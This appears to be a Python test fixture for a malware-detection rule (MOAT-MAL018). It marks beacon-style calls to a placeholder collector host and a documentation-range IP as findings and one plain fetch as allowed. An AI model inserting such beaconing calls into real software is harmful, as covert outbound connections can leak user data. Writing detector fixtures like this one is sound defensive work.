import socket
import urllib.request

import requests

# ruleid: MOAT-MAL018
requests.post("https://collector.invalid/beacon", data={"hello": 1})
# ruleid: MOAT-MAL018
urllib.request.urlopen("https://collector.invalid/x")
s = socket.socket()
# ruleid: MOAT-MAL018
s.connect(("203.0.113.1", 80))


def fetch(url):
    # ok: MOAT-MAL018
    return requests.get(url)
